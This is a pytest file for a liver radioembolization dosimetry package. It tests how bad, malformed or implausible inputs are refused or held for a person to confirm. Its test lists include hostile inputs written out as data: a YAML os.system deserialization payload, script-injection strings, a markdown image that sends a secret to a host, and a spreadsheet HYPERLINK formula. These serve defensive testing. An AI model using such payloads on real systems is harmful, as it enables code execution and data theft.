"""Wrong and odd inputs, each by the id it has in the list they come from: refused, confirmed by a person, or taken."""

import concurrent.futures
import copy
import inspect
import json
import pickle
import warnings
from decimal import Decimal
from fractions import Fraction

import numpy as np
import pytest
from cases import (
    AT,
    ROOT,
    changed,
    example,
    first,
    is_number,
    leaf_ids,
    lobar,
    numbers,
    planned,
    problems,
    put,
    refused,
    text_of,
    two_lobes,
    with_lesions,
)
from each import each
from effort import examples
from hypothesis import given, settings
from isolated import run_python, shortest_time
from strategies import cases

from dosimetry import Case, CaseError, Lesion, Lung, Prescription, Territory, decay, dose, lung_shunt, plan
from dosimetry.columns import flat_names
from dosimetry.models import partition, single_compartment
from dosimetry.number_text import number_from_text
from dosimetry.plan_file import text_from_plan
from dosimetry.typed_text import text_from_number

here = "territories[0]."
lesion = here + "lesions[0]."
NO_NUMBERS = [
    ("B001", "NaN"), ("B002", "Infinity"), ("B002", "-Infinity"), ("B002", "1e999"), ("B008", "1e-400"),
    ("B012", "true"), ("B012", "false"), ("B013", '"3.0"'), ("B014", "9" * 10_000), ("B014", "-" + "9" * 10_000),
]  # fmt: skip
WRITTEN_WRONG = [
    ("B001", "NaN"), ("B001", "nan"), ("B001", "NAN"), ("B002", "Infinity"), ("B002", "-inf"), ("B002", "1e999"),
    ("B005", "1.234,5"), ("B005", "1,234.5"), ("B005", "1 234.5"), ("B005", "1,5"), ("B005", "1'234"),
    ("B005", "1\u00a0234"), ("B007", "\u0663"), ("B007", "\uff11\uff12"), ("B007", "1\u0663"), ("B008", "0x10"),
    ("B008", "1e-400"), ("B008", "1__0"), ("B008", "1_000"), ("B008", "5.0.0"), ("B008", "--5"), ("B008", "5-"),
    ("B008", "5e"), ("B008", "e5"), ("B008", "."), ("B008", ""), ("B011", "5 mCi"), ("B011", "5mCi"),
    ("B011", "10%"), ("B011", "120abc"), ("B012", "true"), ("B012", "False"), ("B014", "9" * 10_000),
]  # fmt: skip
MEANT_OTHERWISE = [
    ("B016", here + "prescription.activity_gbq", 54,
     r"must be in \(0, 20\] GBq; got 54\..*54 mCi is 1\.998 GBq; 54 GBq would be 1459\.46 mCi"),
    ("B021", here + "prescription.dose_gy", 12000, r"must be in \[1, 2000\] Gy; got 12000\..*12000 rad is 120 Gy"),
    ("B023", "liver.whole_volume_ml", 1.8, r"must be in \[100, 10000\] mL; got 1\.8\..*1\.8 L is 1800 mL"),
    ("B024", "liver.whole_volume_ml", 1800000, r"got 1800000\..*cubic millimeters\? 1800000 mm3 is 1800 mL"),
    ("B024", here + "perfused_volume_ml", 1800000, r"must be in \(0, 10000\] mL; got .*cubic millimeters"),
    ("B027", "lung.mass_kg", 1000, r"must be in \[0\.1, 3\] kg; got 1000\..*grams\? 1000 g is 1 kg"),
    ("B027", "lung.mass_kg", 0.001, r"must be in \[0\.1, 3\] kg; got 0\.001\."),
    ("B028", "patient.height_cm", 1.75, r"must be in \[50, 250\] cm; got 1\.75\..*meters\? 1\.75 m is 175 cm"),
    ("B031", "lung.shunt_fraction", 5, r"must be in \[0, 1\); got 5\. Did you enter a percentage\? Divide by 100\."),
    ("B034", "lung.shunt_fraction", -0.001, r"must be in \[0, 1\); got -0\.001\.$"),
    ("B034", "lung.shunt_fraction", -0.05, r"must be in \[0, 1\); got -0\.05\.$"),
    ("B034", "lung.shunt_fraction", 1.0, r"must be in \[0, 1\); got 1\."),
    ("B034", "lung.shunt_fraction", 1.001, r"must be in \[0, 1\); got 1\.001\."),
    ("B034", "lung.shunt_fraction", 100, r"must be in \[0, 1\); got 100\."),
    ("B038", here + "perfused_volume_ml", 50, r"must hold its lesions: they sum to 85 mL; got 50\."),
    ("B047", lesion + "volume_ml", 14137, r"must be in \(0, 10000\] mL; got 14137\..*diameter"),
    ("B048", lesion + "tumor_normal_ratio", 0, r"must be in \(0, 200\]; got 0\."),
    ("B048", lesion + "tumor_normal_ratio", -1, r"must be in \(0, 200\]; got -1\."),
    ("B067", "patient.lab_date", "03/04/2026", "must be a date as year-month-day, like 2026-04-03"),
    ("B068", "patient.lab_date", "2026-02-29", "must be a date"),
    ("B068", "patient.lab_date", "2026-13-01", "must be a date"),
    ("B068", "patient.lab_date", "2026-00-10", "must be a date"),
    ("B068", "patient.lab_date", "2026-04-03T24:30", "must be a date"),
    ("B068", "mapping.date", "2026-02-30", "must be a date"),
    ("B068", "mapping.date", "20260403", "must be a date"),
    ("B068", "mapping.date", "\uff12026-04-03", "must be a date"),
    ("B082", here + "residual_fraction", 1.2, r"must be in \[0, 1\); got 1\.2\..*percentage"),
    ("B121", "label", "a" * 100_000, "at most 200 characters; got 100000"),
    ("B121", "notes", "a" + "\u0301" * 10_000, "at most 200 characters"),
    ("B121", "label", "a\0b", r"must not hold control.*U\+0000"),
    ("B121", "label", "a\ud800b", r"must not hold control.*U\+D800"),
]  # fmt: skip
DENSITIES = ["constants.tissue_density_g_per_ml", here + "density_g_per_ml", lesion + "density_g_per_ml"]
LEFT_UNSAID = [
    ("B053", "device", "device is missing"),
    ("B055", lesion + "tumor_normal_ratio", "tumor_normal_ratio is missing; the partition prescription"),
    ("B059", here + "prescription.target", "model 'partition' needs prescription_target; it is missing"),
]
TO_CONFIRM = [
    ("B017", {here + "prescription": {"model": "activity", "activity_gbq": 0.074}}, "prescribed_activity_gbq"),
    ("B028", {"patient": {"height_cm": 68}}, "height_cm"),
    ("B028", {"patient": {"weight_kg": 170}}, "weight_kg"),
    ("B030", {"lung": {"counts": {"lung": 950, "liver": 50}}}, "lung_shunt_fraction"),
    ("B032", {"lung.shunt_fraction": 0.0005}, "lung_shunt_fraction"),
    ("B049", {lesion + "tumor_normal_ratio": 0.33}, "tumor_normal_ratio"),
    ("B051", {lesion + "tumor_normal_ratio": 150}, "tumor_normal_ratio"),
    ("B052", {"device": "resin", here + "prescription": {"model": "activity", "activity_gbq": 15}},
     "prescribed_activity_gbq"),
    ("B082", {here + "residual_fraction": 0.0003}, "residual_fraction"),
]  # fmt: skip
CONTROLS = [
    ("B144", 120, 1500, 0.05, "3.9291"),
    ("B145", 205, 200, 0.05, "0.8950"),
]
NO_CASE_FILES = {
    "B111 picture": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "B111 empty": b"",
    "B111 one byte": b"x",
    "B108 pickle": pickle.dumps({"format": "dosimetry-case"}),
    "B108 archive": b"PK\x03\x04\x14\x00\x06\x00",
    "B108 array": b"\x93NUMPY\x01\x00v\x00{'descr': '|O'}",
    "B107 yaml": b"!!python/object/apply:os.system ['true']\n",
    "B089 utf-16": text_of(lobar()).encode("utf-16"),
}
MARKUP = [
    ("B117", "<script>alert(1)</script>"), ("B117", "<img src=x onerror=alert(1)>"),
    ("B118", "![](http://host/x?d=secret) $LaTeX$ :red[text]"), ("B098", "=HYPERLINK(\"http://host\")"),
]  # fmt: skip
IDENTIFYING = ["MRN 1234567", "born 12.03.1956", "DOB 1956-03-12", "jane.doe@example.org", "12/03/1956"]
TEXTS_A_PERSON_TYPES = ["label", "notes", here + "name", here + "vessel", here + "side", lesion + "name"]
FORMULAS = [
    dose.liver_energy_gy_kg, dose.lung_energy_gy_kg, dose.mean_dose_gy, dose.normal_perfused_dose_gy,
    dose.lesion_dose_gy, dose.vial_activity_gbq, decay.remaining_fraction, decay.energy_gy_kg_per_gbq, decay.elapsed_h,
    lung_shunt.net_counts, lung_shunt.geometric_mean, lung_shunt.lung_shunt_fraction, lung_shunt.tumor_normal_ratio,
    single_compartment.activity_gbq, partition.activity_gbq,
]  # fmt: skip


def by_id(rows):
    return [pytest.param(*row[1:], id=f"{row[0]}-{place}") for place, row in enumerate(rows)]


@each(leaf=leaf_ids(is_number), token=[token for _, token in NO_NUMBERS])
def test_no_number_field_takes_what_is_no_finite_number(leaf, token):
    text = text_of(put(leaf.path, "HERE")).replace('"HERE"', token)
    assert refused(text, first(leaf.path), f"^{flat_names()[leaf.path]} must be a number; ")


def test_ten_thousand_digits_are_refused_in_a_tenth_of_a_second():
    """B014."""
    text = text_of(lobar()).replace("650", "9" * 10_000)
    assert refused(text, here + "perfused_volume_ml", "longer than any sensible number")
    assert shortest_time(lambda: problems(text)) < 0.1


@pytest.mark.parametrize("text", by_id(WRITTEN_WRONG))
def test_a_text_that_is_no_plain_number_is_refused_with_its_words(text):
    with pytest.raises(ValueError, match=r"^got ['\"]"):
        number_from_text(text)


def test_a_unit_in_a_number_is_named():
    with pytest.raises(ValueError, match="type the number only, without 'mCi'"):
        number_from_text("5 mCi")


def test_a_naked_point_is_read_and_echoed_with_its_zero():
    """B009."""
    assert number_from_text(".5") == 0.5
    assert text_from_number(number_from_text(".5")) == "0.5"


@pytest.mark.parametrize(
    ("text", "per", "value"),
    [("1.5", 1, 1.5), (" 7 ", 1, 7.0), ("1e3", 1, 1000.0), ("-3", 1, -3.0), ("4.1", 100, 0.041), ("5", 100, 0.05)],
)
def test_a_plain_number_is_read(text, per, value):
    assert number_from_text(text, per=per) == value
    assert number_from_text(text_from_number(value, per=per), per=per) == value


@pytest.mark.parametrize(("path", "value", "rule"), by_id(MEANT_OTHERWISE))
def test_an_impossible_value_is_refused_with_the_likely_slip(path, value, rule):
    assert refused(changed(with_lesions(), {path: value}), path, rule)


@pytest.mark.parametrize("path", DENSITIES)
@pytest.mark.parametrize("value", [0, -1, 0.1, 10, 1030])
def test_an_impossible_density_is_refused(path, value):
    """B026."""
    assert refused(changed(with_lesions(), {path: value}), path, r"must be in \[0\.9, 1\.2\] g/mL; got ")


@pytest.mark.parametrize(("path", "rule"), by_id(LEFT_UNSAID))
def test_nothing_is_assumed_for_what_was_not_said(path, rule):
    unsaid = changed(with_lesions(), {path: None})
    text = text_of(unsaid)
    for left_out in (', "tumor_normal_ratio": null', '"device": null, ', '"target": null, '):
        text = text.replace(left_out, "")
    assert refused(text, path, rule)


@pytest.mark.parametrize(("change", "name"), by_id(TO_CONFIRM))
def test_a_suspicious_value_waits_for_a_person(change, name):
    found = [finding for finding in planned(changed(with_lesions(), change)).unacknowledged if finding.quantity == name]
    assert [finding.acknowledgement for finding in found] == ["needed"]


def test_440_gray_to_one_segment_is_taken_without_a_question():
    """B057."""
    segment = changed(lobar(), {here + "perfused_volume_ml": 120, here + "prescription.dose_gy": 440})
    assert planned(segment).unacknowledged == ()


@pytest.mark.parametrize(("dose_gy", "volume_ml", "shunt", "activity"), by_id(CONTROLS))
def test_an_ordinary_case_stays_silent(dose_gy, volume_ml, shunt, activity):
    case = changed(
        lobar(),
        {
            here + "perfused_volume_ml": volume_ml,
            here + "prescription.dose_gy": dose_gy,
            "lung": {"shunt_fraction": shunt, "shunt_method": "spect_ct", "mass_kg": 1.0, "previous_dose_gy": 0},
        },
    )
    made = planned(case)
    assert f"{made.territories[0].administered_activity_gbq:.4f}" == activity
    assert [finding.id for finding in made.findings if finding.severity != "note"] == []


def test_an_ordinary_partition_stays_silent():
    """B146."""
    case = changed(
        lobar(),
        {
            here + "perfused_volume_ml": 300,
            here + "lesions": [{"name": "A", "volume_ml": 80, "tumor_normal_ratio": 5}],
            here + "prescription": {"model": "partition", "target": "lesion:A", "dose_gy": 400},
            "lung": {"shunt_fraction": 0.08, "shunt_method": "spect_ct"},
        },
    )
    made = planned(case).territories[0]
    assert f"{made.administered_activity_gbq:.4f}" == "1.1180"
    assert made.normal_perfused_dose_gy == pytest.approx(80, rel=1e-12)
    assert [finding.id for finding in planned(case).findings if finding.severity != "note"] == []


def test_a_repeated_key_is_refused_and_not_decided_by_its_place():
    """B100."""
    text = text_of(lobar()).replace('"shunt_fraction": 0.05', '"shunt_fraction": 0.05, "shunt_fraction": 5')
    assert refused(text, "lung.shunt_fraction", "stands more than once")


@pytest.mark.parametrize("content", NO_CASE_FILES.values(), ids=NO_CASE_FILES)
def test_what_is_no_json_is_refused_by_its_content(content):
    assert refused(content, "", "not UTF-8 text|not JSON")


@pytest.mark.parametrize("text", by_id(MARKUP))
def test_markup_in_a_text_stays_text(text):
    made = planned(changed(lobar(), {"label": text, "notes": text}))
    assert made.label == text
    written = json.loads(text_from_plan(made))
    assert (written["label"], written["case"]["notes"]) == (text, text)


@pytest.mark.parametrize("path", TEXTS_A_PERSON_TYPES)
@pytest.mark.parametrize("text", IDENTIFYING)
def test_a_text_that_looks_like_a_patient_gets_a_caution_that_does_not_repeat_it(path, text):
    """B122."""
    case = changed(two_lobes(), {path: text})
    found = [finding for finding in planned(case).findings if finding.id == f"identifying_text@{path}"]
    assert [finding.severity for finding in found] == ["caution"]
    assert text not in found[0].message


def in_python(volume_ml):
    lobe = Territory(
        name="right lobe",
        perfused_volume_ml=volume_ml,
        lesions=(),
        prescription=Prescription(model="single_compartment", dose_gy=110),
    )
    return Case(label="x", device="glass", convention="eanm", lung=Lung(shunt_fraction=0.05), territories=(lobe,))


@pytest.mark.parametrize("volume_ml", [650, 650.0, Decimal(650), Decimal("650.0"), np.float64(650)])
def test_int_float_and_decimal_are_one_number(volume_ml):
    """B015."""
    assert plan(in_python(volume_ml), at=AT) == plan(in_python(650.0), at=AT)


@pytest.mark.parametrize("volume_ml", [Fraction(650), np.float32(650), np.array(650.0), np.array([650.0]), 650j])
def test_a_foreign_kind_of_number_is_a_type_error(volume_ml):
    """B015."""
    with pytest.raises(TypeError, match="perfused_volume_ml must be an int, float or Decimal"):
        plan(in_python(volume_ml))


@pytest.mark.parametrize(
    "volume_ml",
    [[650.0], "650", True, float("nan"), float("inf"), Decimal("NaN"), Decimal("1e-400"), Decimal("1e400"), 10**400],
    ids=lambda value: f"{value!r:.20}",
)
def test_a_value_that_is_no_number_is_refused_in_python_as_in_a_file(volume_ml):
    with pytest.raises(CaseError, match="perfused_volume_ml must be"):
        plan(in_python(volume_ml))


@pytest.mark.parametrize("case", [None, 5, "case.json", [], {}])
def test_what_is_no_case_is_refused(case):
    with pytest.raises(CaseError):
        plan(case)


@pytest.mark.parametrize("formula", FORMULAS, ids=lambda formula: f"{formula.__module__}.{formula.__name__}")
def test_formulas_take_their_inputs_by_name_only(formula):
    """B142."""
    kinds = {parameter.kind for parameter in inspect.signature(formula).parameters.values()}
    assert kinds == {inspect.Parameter.KEYWORD_ONLY}


def test_records_take_their_fields_by_name_only():
    """B142."""
    with pytest.raises(TypeError):
        Lesion("A", 30)  # type: ignore[misc]
    with pytest.raises(TypeError):
        Prescription("activity", None, None, 2.0)  # type: ignore[misc]


@pytest.mark.parametrize("shunt", [5, 1, -0.1, float("inf")])
def test_a_formula_refuses_the_impossible_shunt(shunt):
    """B031, without the door before it."""
    for formula, given_ in (
        (dose.liver_energy_gy_kg, {"activity_gbq": 1}),
        (dose.lung_energy_gy_kg, {"activity_gbq": 1}),
        (single_compartment.activity_gbq, {"target_dose_gy": 120, "perfused_mass_kg": 1}),
        (partition.activity_gbq, {"target_dose_gy": 120, "target_ratio": 1, "uptake_mass_kg": 1}),
    ):
        with pytest.raises(ValueError, match=r"lung_shunt_fraction must be in \[0, 1\); got "):
            formula(**given_, lung_shunt_fraction=[0.1, shunt], energy_gy_kg_per_gbq=49.67)


@pytest.mark.parametrize("residual", [1, 1.2, -0.1])
def test_a_formula_refuses_the_impossible_residual(residual):
    with pytest.raises(ValueError, match=r"residual_fraction must be in \[0, 1\)"):
        dose.vial_activity_gbq(activity_gbq=1, residual_fraction=residual)


@pytest.mark.parametrize("half_life_h", [0, -64.1])
def test_a_formula_refuses_the_impossible_half_life(half_life_h):
    with pytest.raises(ValueError, match="half_life_h must be > 0"):
        decay.remaining_fraction(elapsed_h=1, half_life_h=half_life_h)


def test_planning_changes_nothing_it_was_given():
    """B143."""
    plain = example("two-territories")
    kept = copy.deepcopy(plain)
    planned(plain)
    plan(plain, at=AT)
    assert plain == kept


def test_eight_threads_plan_what_one_plans():
    """B143."""
    with concurrent.futures.ThreadPoolExecutor(max_workers=8) as threads:
        plans = list(threads.map(planned, [example("two-territories"), with_lesions()] * 16))
    assert plans == [planned(example("two-territories")), planned(with_lesions())] * 16


@settings(max_examples=examples(40))
@given(cases())
def test_no_warning_and_no_hidden_overflow(case):
    """B140."""
    with np.errstate(all="raise"), warnings.catch_warnings():
        warnings.simplefilter("error")
        planned(case)


ENVIRONMENTS = {
    "German": {"LANG": "de_DE.UTF-8", "LC_ALL": "de_DE.UTF-8", "PYTHONHASHSEED": "1"},
    "Turkish": {"LANG": "tr_TR.UTF-8", "LC_ALL": "tr_TR.UTF-8", "PYTHONHASHSEED": "2"},
    "Arabic": {"LANG": "ar_EG.UTF-8", "TZ": "Pacific/Kiritimati", "PYTHONHASHSEED": "3"},
    "plain": {"LANG": "C", "LC_ALL": "C", "TZ": "America/New_York", "PYTHONHASHSEED": "4"},
}
PLAN_AND_REFUSE = """
import datetime, json, sys
from pathlib import Path
from dosimetry import CaseError, plan, read_case
from dosimetry.case_file import case_from_text
from dosimetry.plan_file import text_from_plan
assert sys.argv[2] != "optimized", "python -O leaves this out"
path = Path(sys.argv[1])
sys.stdout.reconfigure(encoding="utf-8", newline="\\n")
sys.stdout.write(text_from_plan(plan(read_case(path), at=datetime.datetime(2026, 7, 31, 9, 30, tzinfo=datetime.UTC))))
try:
    case_from_text(path.read_text("utf-8").replace('"shunt_fraction": 0.11', '"shunt_fraction": 5'))
except CaseError as error:
    sys.stdout.write(str(error))
"""


@pytest.mark.parametrize("environment", ENVIRONMENTS.values(), ids=ENVIRONMENTS)
def test_language_zone_and_hash_seed_change_nothing_and_an_optimized_python_still_validates(environment):
    """B125, B138."""
    path = str(ROOT / "examples" / "two-territories.json")
    answer = run_python("-O", "-c", PLAN_AND_REFUSE, path, "optimized", **environment)
    assert answer == text_from_plan(planned(example("two-territories"))) + (
        "lung.shunt_fraction: lung_shunt_fraction must be in [0, 1); got 5. Did you enter a percentage? Divide by 100."
    )


def test_a_plan_is_made_with_every_warning_an_error():
    """B140."""
    path = str(ROOT / "examples" / "resin-two-lesions.json")
    code = "import sys; from dosimetry import *; print(plan(read_case(sys.argv[1])).lung_dose_gy)"
    assert float(run_python("-W", "error", "-c", code, path)) == planned(example("resin-two-lesions")).lung_dose_gy


def test_an_acknowledged_case_and_its_numbers_are_the_same():
    plain = changed(with_lesions(), {"lung.shunt_fraction": 0.25})
    entry = {"finding": "unusual_lung_shunt_fraction@lung.shunt_fraction", "value": 0.25, "by": "AB", "reason": "SPECT"}
    assert numbers(planned(plain)) == numbers(planned(changed(plain, {"acknowledged": [entry]})))
